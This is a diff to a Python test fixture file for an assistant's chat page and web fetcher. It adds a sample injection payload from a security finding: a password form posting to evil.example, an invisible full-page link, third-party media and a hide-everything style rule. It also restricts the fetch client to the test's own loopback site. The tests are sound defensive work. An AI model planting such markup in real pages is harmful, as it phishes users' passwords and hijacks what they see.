@@ -12,9 +12,11 @@ import threading
 import time
 import urllib.request
 from collections import Counter
+from contextlib import contextmanager
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import Iterator
 
 import pytest
 
@@ -26,6 +28,14 @@ ROOT = Path(__file__).resolve().parents[1]
 SAMPLE = ROOT / "corpus" / "000_15735037f31751e9.txt"
 SEED_ID = SAMPLE.name
 TRADE_QUESTION = "How much did trade between China and Russia grow?"
+
+# What a crafted `/?q=` link put into the chat page (issue 18, finding 1): a password form posting
+# elsewhere, an invisible link over the whole page, images and a video from a third party.
+SHARED_LINK_PAYLOAD = ('<form action="https://evil.example/login"><input type="password" name="p"><button>Sign in'
+                       '</button></form><a href="https://evil.example/" style="position:fixed;inset:0">.</a> '
+                       '![x](https://evil.example/x.png) [here](https://evil.example/) '
+                       '<img src="https://evil.example/y.png"> <video src="https://evil.example/v.mp4" autoplay></video> '
+                       '<style>*{display:none}</style> Who is *Liu* Weidong? www.evil.example mail@evil.example')
 
 
 @pytest.fixture(scope="session")
@@ -293,17 +303,18 @@ def corpus_dir(tmp_path) -> Path:
 
 
 @pytest.fixture
-def web_client():
-    """An httpx client as `add` builds it, with a short timeout."""
+def web_client(site):
+    """An httpx client as `add` builds it, with a short timeout, allowed to fetch from the test's
+    own `site` (on loopback, which is refused unless allowed)."""
     from assistant.sources.fetch import make_client
 
-    with make_client(timeout=2) as client:
+    with make_client(timeout=2, allow=[site.url("")]) as client:
         yield client
 
 
-@pytest.fixture
-def site():
-    """A `Site` serving on 127.0.0.1 for the test, shut down after it."""
+@contextmanager
+def serving() -> Iterator[Site]:
+    """A `Site` serving on 127.0.0.1 until the block ends."""
     web = Site()
     thread = threading.Thread(target=web.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
     thread.start()
@@ -314,6 +325,20 @@ def site():
         web.server.shutdown()
         web.server.server_close()
         thread.join(timeout=10)
+
+
+@pytest.fixture
+def site():
+    """A `Site` serving on 127.0.0.1 for the test, shut down after it."""
+    with serving() as web:
+        yield web
+
+
+@pytest.fixture
+def other_site():
+    """A second `Site`, on another loopback port: another origin, which `web_client` does not allow."""
+    with serving() as web:
+        yield web
 
 
 def article_page(title: str, paragraphs: list[str], *, outlet: str = "Harbour Times", date: str = "2024-03-05",
